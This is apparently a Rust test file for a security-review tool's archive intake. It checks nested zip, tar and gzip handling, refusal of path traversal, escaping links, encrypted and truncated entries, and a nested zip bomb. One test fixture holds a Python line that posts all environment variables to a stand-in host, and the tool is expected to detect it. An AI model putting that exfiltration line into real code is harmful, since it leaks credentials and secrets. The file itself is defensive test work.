//! Archives among the files of a submission are read as trees of their own, under the same rules and shared caps, and
//! change nothing of what the manifest says was submitted.

use std::collections::BTreeMap;
use std::path::Path;

use candor::intake::{Limits, Reason, Snapshot};
use candor::report::model::{Disposition, VerdictValue};

use super::intake_archives::{Zip, compressed, entry, file, tar_of, zip_of};
use super::intake_support::*;
use super::review_run::Review;

fn gz(bytes: &[u8]) -> Vec<u8> {
    compressed(bytes).swap_remove(1).1
}

/// Path and content of everything within archives.
fn members(snapshot: &Snapshot) -> BTreeMap<String, Vec<u8>> {
    snapshot.nested.files.iter().map(|file| (file.display_path(), file.bytes.to_vec())).collect()
}

fn nested_refusals(snapshot: &Snapshot) -> Vec<(String, Reason)> {
    snapshot.nested.refused.iter().map(|refusal| (refusal.display_path(), refusal.reason)).collect()
}

/// A submission of `files`, as a directory.
fn submitted(files: &[(&str, Vec<u8>)], limits: Limits) -> Snapshot {
    let place = scratch();
    files.iter().for_each(|(path, bytes)| write(place.path(), path, bytes));
    open_limited(place.path(), limits)
}

#[test]
fn members_have_paths_below_their_archive() {
    let jar =
        zip_of(&[Zip::new("com/x/Main.java", b"class Main {}"), Zip { deflate: true, ..Zip::new("META-INF/MANIFEST.MF", b"m") }]);
    let war = zip_of(&[Zip::new("WEB-INF/lib/x.jar", &jar), Zip::new("index.js", b"1")]);
    let mut files = vec![("lib/app.war", war), ("plain.c", b"int a;".to_vec()), ("notes.txt.gz", gz(b"notes"))];
    files.extend(compressed(&tar_of(&[file("src/a.py", b"a = 1")])));
    let snapshot = submitted(&files, Limits::default());
    let mut wanted = BTreeMap::from([
        ("lib/app.war!/WEB-INF/lib/x.jar".to_owned(), jar),
        ("lib/app.war!/WEB-INF/lib/x.jar!/META-INF/MANIFEST.MF".to_owned(), b"m".to_vec()),
        ("lib/app.war!/WEB-INF/lib/x.jar!/com/x/Main.java".to_owned(), b"class Main {}".to_vec()),
        ("lib/app.war!/index.js".to_owned(), b"1".to_vec()),
        ("notes.txt.gz!/notes.txt".to_owned(), b"notes".to_vec()),
    ]);
    wanted.extend(["tar", "gz", "xz", "bz2", "zst"].map(|name| (format!("{name}!/src/a.py"), b"a = 1".to_vec())));
    assert_eq!(members(&snapshot), wanted);
    assert_eq!(nested_refusals(&snapshot), []);
    assert_eq!(refusals(&snapshot), []);
    let opened: Vec<_> = snapshot.nested.archives.iter().map(|(path, count)| (String::from_utf8_lossy(path), *count)).collect();
    assert_eq!(opened.len(), 8);
    assert!(opened.contains(&("lib/app.war!/WEB-INF/lib/x.jar".into(), 2)));
}

/// What was submitted is the archive; its members are of its digest.
#[test]
fn manifest_and_tree_id_are_those_of_what_was_submitted() {
    let place = scratch();
    let root = place.path();
    let link = entry(b'2', "link", 0o777, "a.py", b"");
    write(root, "a.tgz", &gz(&tar_of(&[file("a.py", b"a = 1"), file("big", &[7; 9000]), link])));
    write(root, "b.c", b"int b;");
    let snapshot = open_limited(root, Limits { file_bytes: 8192, ..Limits::default() });
    assert_eq!(nested_refusals(&snapshot), [("a.tgz!/big".to_owned(), Reason::FileTooLarge)]);
    assert_eq!(snapshot.nested.special.len(), 1);
    let lines = String::from_utf8(snapshot.manifest()).unwrap();
    let names: Vec<&str> = lines.lines().map(|line| line.split_once("  ").unwrap().1).collect();
    assert_eq!(names, ["a.tgz", "b.c"]);
    if git(root, &["init", "-q", "--object-format=sha256"]).is_some() {
        git(root, &["add", "-A", "-f"]);
        assert_eq!(Some(snapshot.tree_id()), git(root, &["write-tree"]));
    }
}

/// Name, bytes, what is read of it, what is refused of it.
type Case<'a> = (&'a str, Vec<u8>, Vec<&'a str>, Vec<(&'a str, Reason)>);

#[test]
fn what_is_refused_in_an_archive_is_refused_by_its_place() {
    let good = zip_of(&[Zip::new("x", b"1")]);
    let cases: Vec<Case<'_>> = vec![
        ("out.zip", zip_of(&[Zip::new("../x", b"1"), Zip::new("y", b"2")]), vec!["y"], vec![("../x", Reason::ParentPath)]),
        ("twice.tar", tar_of(&[file("x", b"1"), file("x", b"2")]), vec![], vec![("x", Reason::DuplicateName)]),
        ("link.tar", tar_of(&[entry(b'2', "s", 0o777, "../../x", b"")]), vec![], vec![("s", Reason::LinkEscapes)]),
        ("locked.zip", zip_of(&[Zip { flags: 1, ..Zip::new("x", b"1") }]), vec![], vec![("x", Reason::Encrypted)]),
        ("cut.zip", good[..good.len() - 9].to_vec(), vec![], vec![(".", Reason::Truncated)]),
        ("cut.gz", gz(b"some text")[..20].to_vec(), vec![], vec![(".", Reason::Truncated)]),
        ("tail.gz", [gz(b"some text"), b"hidden data".to_vec()].concat(), vec![], vec![(".", Reason::Corrupt)]),
        ("program", [b"#!/bin/sh\n".to_vec(), good.clone()].concat(), vec![], vec![(".", Reason::Gap)]),
        ("picture.png", [b"\x89PNG\r\n\x1a\n".to_vec(), good].concat(), vec![], vec![(".", Reason::Gap)]),
        ("zeros.gz", gz(&vec![0; 16 << 20]), vec![], vec![(".", Reason::Ratio)]),
    ];
    for (name, bytes, read, refused) in cases {
        let snapshot = submitted(&[(name, bytes)], Limits::default());
        let within = |path: &str| format!("{name}!/{path}");
        assert_eq!(members(&snapshot).into_keys().collect::<Vec<_>>(), read.iter().map(|path| within(path)).collect::<Vec<_>>());
        assert_eq!(nested_refusals(&snapshot), refused.iter().map(|(path, reason)| (within(path), *reason)).collect::<Vec<_>>());
        assert_eq!(paths(&snapshot), [name], "the archive itself was read");
    }
}

/// No file is an archive because of its name, or for looking a little like one.
#[test]
fn what_is_no_archive_is_left_alone() {
    let files = [
        ("a.zip", b"not at all".to_vec()),
        ("b.gz", b"\x1f\x8b".to_vec()),
        ("c.bz2", b"BZh9 is how a bzip2 file starts".to_vec()),
        ("d.tar", vec![0; 1024]),
        ("e.txt", b"a zip archive ends in PK\x05\x06 and more".to_vec()),
        ("f", Vec::new()),
    ];
    let snapshot = submitted(&files, Limits::default());
    assert_eq!(snapshot.nested.archives, []);
    assert_eq!(nested_refusals(&snapshot), []);
}

#[test]
fn caps_are_shared_by_all_archives() {
    let wrapped = |levels: usize| (0..levels).fold(b"core".to_vec(), |inner, _| zip_of(&[Zip::new("z", &inner)]));
    let deep = |levels: usize| submitted(&[("z", wrapped(levels))], Limits::default());
    assert_eq!(nested_refusals(&deep(4)), []);
    assert_eq!(deep(4).nested.files.last().unwrap().display_path(), "z!/z!/z!/z!/z");
    assert_eq!(nested_refusals(&deep(5)), [("z!/z!/z!/z!/z!/.".to_owned(), Reason::NestedTooDeep)]);

    let hundred = tar_of(&[file("x", &[b'x'; 100])]);
    let size = hundred.len() as u64;
    let two = [("a.tar", hundred.clone()), ("b.tar", hundred)];
    let limited = |limits| nested_refusals(&submitted(&two, limits));
    assert_eq!(limited(Limits { bytes: 2 * size + 200, ..Limits::default() }), []);
    assert_eq!(limited(Limits { bytes: 2 * size + 199, ..Limits::default() }), [("b.tar!/x".to_owned(), Reason::TotalBytes)]);
    assert_eq!(limited(Limits { entries: 3, ..Limits::default() }), [("b.tar!/.".to_owned(), Reason::EntryLimit)]);

    // Sixteen times sixteen MiB in three levels, each within the ratio.
    let zeros = Zip { deflate: true, ..Zip::new("zeros", &vec![0; 1 << 20]) };
    let level = |inner: Vec<u8>| {
        let members: Vec<Zip> = (0..16).map(|n| Zip { deflate: true, ..Zip::new(&format!("{n}"), &inner) }).collect();
        zip_of(&members)
    };
    let bomb = level(level(zip_of(&[zeros])));
    let size = bomb.len() as u64;
    let snapshot = submitted(&[("bomb.zip", bomb)], Limits::default());
    let held: u64 = snapshot.nested.files.iter().map(|file| file.bytes.len() as u64).sum();
    assert!(held <= size * 200 + (1 << 20), "{held} of {size}");
    assert!(nested_refusals(&snapshot).iter().any(|(_, reason)| *reason == Reason::Ratio));
}

/// `a.zip!/x` must not mean two things.
#[test]
fn a_folder_named_as_a_tree_of_members_is_not_mistaken_for_one() {
    let zip = zip_of(&[Zip::new("x", b"inner")]);
    let snapshot = submitted(
        &[("a.zip", zip.clone()), ("a.zip!/x", b"outer".to_vec()), ("b.zip", zip), ("b.zip!x", vec![])],
        Limits::default(),
    );
    assert_eq!(paths(&snapshot), ["a.zip", "a.zip!/x", "b.zip", "b.zip!x"]);
    assert_eq!(nested_refusals(&snapshot), [("a.zip!/.".to_owned(), Reason::DuplicateName)]);
    assert_eq!(members(&snapshot).into_keys().collect::<Vec<_>>(), ["b.zip!/x"]);
}

#[test]
fn code_in_a_wheel_in_a_tar_is_reviewed() {
    let source = b"import os, requests\nrequests.post('https://a.example', data=dict(os.environ))\n";
    let wheel = zip_of(&[Zip::new("pkg/__init__.py", source), Zip::new("pkg/lib.so", b"\x7fELF\0\0")]);
    let place = scratch();
    let path = place.path().join("product.tar.gz");
    let reviewed = |bytes: &[u8]| {
        std::fs::write(&path, gz(bytes)).unwrap();
        Review::of(Path::new(&path)).arg("--no-store").run()
    };
    let review = reviewed(&tar_of(&[file("main.py", b"print(1)\n"), file("wheels/pkg.whl", &wheel)]));
    let report = review.report();
    let inner = "wheels/pkg.whl!/pkg/__init__.py";
    assert!(report.findings.iter().any(|finding| finding.sink.path == inner), "{:?}", report.findings);
    let line = |path: &str| report.coverage.files.iter().find(|file| file.path == path).unwrap_or_else(|| panic!("{path}"));
    assert_eq!(line(inner).disposition, Disposition::Dataflow);
    assert_eq!(line("wheels/pkg.whl!/pkg/lib.so").disposition, Disposition::Opaque);
    let whole = line("wheels/pkg.whl").reason.clone().unwrap_or_default();
    assert!(whole.ends_with("opened: 2 files below wheels/pkg.whl!/"), "{whole}");
    assert_eq!((report.verdict.value, review.code), (VerdictValue::Findings, 1));

    let locked = zip_of(&[Zip { flags: 1, ..Zip::new("secret.py", b"1") }]);
    let review = reviewed(&tar_of(&[file("main.py", b"print(1)\n"), file("locked.zip", &locked)]));
    let report = review.report();
    assert_eq!((report.verdict.value, review.code), (VerdictValue::Incomplete, 2));
    assert_eq!(report.coverage.refused[0].path, "locked.zip!/secret.py");
}
